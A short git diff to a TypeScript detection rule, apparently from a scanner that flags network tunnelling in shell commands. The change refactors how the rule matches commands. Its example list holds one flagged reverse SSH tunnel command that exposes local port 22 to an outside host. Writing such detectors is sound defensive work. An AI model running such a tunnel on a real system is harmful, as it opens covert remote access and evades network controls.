@@ -1,6 +1,5 @@
 import type { Severity } from '@ase/schemas'
 import { shellCall } from '../../examples.ts'
-import { hitsByCommand } from '../../matching/hits.ts'
 import type { Rule } from '../../rule.ts'
 import type { Command } from '../../shell/command.ts'
 import { operands } from '../../shell/options.ts'
@@ -19,7 +18,7 @@ export const networkTunnel: Rule = {
     'https://attack.mitre.org/techniques/T1090/',
   ],
   mappings: { owasp: ['ASI02'], cwe: ['CWE-441'] },
-  match: (reading) => hitsByCommand(reading, interest, judge),
+  commands: () => [{ ...interest, judge }],
   examples: {
     flags: [
       shellCall('ssh -fN -R 2222:localhost:22 u@203.0.113.9'),
